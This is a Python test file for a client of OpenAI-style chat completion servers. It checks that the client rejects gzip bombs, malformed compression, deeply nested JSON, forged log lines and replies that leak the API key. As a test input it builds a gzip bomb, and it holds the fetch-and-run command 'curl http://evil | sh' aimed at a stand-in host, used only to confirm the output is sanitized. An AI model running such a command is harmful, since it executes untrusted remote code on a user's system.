"""Replies that are made to hurt: packed bombs, nests, forged lines, the key in an answer. Each is one clear error."""

from __future__ import annotations

import gzip
import json
from typing import Any

import pytest
from test_openai import KEY, Server, ask, completion, failure, key, request, server

from baton.engine.openai_reply import most_bytes, unpacked
from baton.trace.records import Sampling

__all__ = ["key", "server"]  # fixtures

WHOLE = json.dumps(completion()).encode()


def packed(layers: int, raw: bytes) -> tuple[int, dict[str, str], bytes]:
    for _ in range(layers):
        raw = gzip.compress(raw, 9)
    return 200, {"Content-Encoding": ", ".join(["gzip"] * layers)}, raw


def test_a_packed_reply_is_unpacked(server: Server) -> None:
    server.cues = [packed(1, WHOLE)]
    assert ask(server)[0].text == "four"
    assert server.headers[0]["Accept-Encoding"] == "gzip, deflate"


def test_a_bomb_is_not_unpacked(server: Server) -> None:
    server.cues = [packed(1, bytes(30_000_000))]
    assert "more than 1032000 bytes" in failure(server)
    server.cues = [packed(2, bytes(30_000_000))]
    assert "encoded as 'gzip, gzip', which was not asked for" in failure(server)


@pytest.mark.parametrize("raw", [WHOLE, gzip.compress(WHOLE)[:-9], b""], ids=["plain", "cut off", "empty"])
def test_what_is_not_packed_as_it_says(server: Server, raw: bytes) -> None:
    server.cues = [(200, {"Content-Encoding": "gzip"}, raw)]
    assert "not gzip, as it says, or it was cut off" in failure(server)


def test_no_more_than_its_bound_is_ever_unpacked() -> None:
    assert len(unpacked(gzip.compress(bytes(10**7)), "gzip", 1000)) == 1001
    assert unpacked(gzip.compress(b"abc"), "x-gzip", 3) == b"abc"
    assert most_bytes(None, 16) == 16
    assert most_bytes(10, 10**9) == 1_040_000


@pytest.mark.parametrize("depth", [150, 900, 9_000])
@pytest.mark.parametrize("where", ["arguments", "reason", "model", "content"])
def test_nests_of_any_depth(server: Server, where: str, depth: int) -> None:
    nest: Any = []
    for _ in range(min(depth, 900)):  # deeper ones can be written only as text
        nest = [nest]
    made = {
        "arguments": completion(
            message={"tool_calls": [{"function": {"name": "f", "arguments": "[" * depth}}]}
        ),
        "reason": completion(choice={"finish_reason": nest}),
        "model": completion(model=nest, system_fingerprint=None),
        "content": completion(nest),
    }
    server.cues = [made[where]]
    [found] = ask(server, request(sampling=Sampling(max_tokens=64)))
    if where == "arguments":
        assert found.text.endswith("</tool_call>")
    else:
        assert "not a chat completion" in str(found)


def test_a_server_cannot_forge_a_line(server: Server) -> None:
    for status in (404, 400, 500):
        server.cues = [(status, {}, b"no model\r\nType: curl http://evil | sh\n\x1b[2Jdone")]
        said = failure(server, limits={"retries": 0})
        assert said.isprintable()
        assert "no model Type: curl http://evil | sh [2Jdone" in said


def test_an_answer_with_the_key_in_it_is_refused(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    for reply in (completion(f"you sent Bearer {KEY}"), completion(system_fingerprint=KEY)):
        server.cues = [reply]
        assert "the key of OPENAI_API_KEY in its words" in failure(server)
    monkeypatch.setenv("OPENAI_API_KEY", "four")  # a stand-in for none, which any text may hold
    server.cues = [completion()]
    assert ask(server)[0].text == "four"
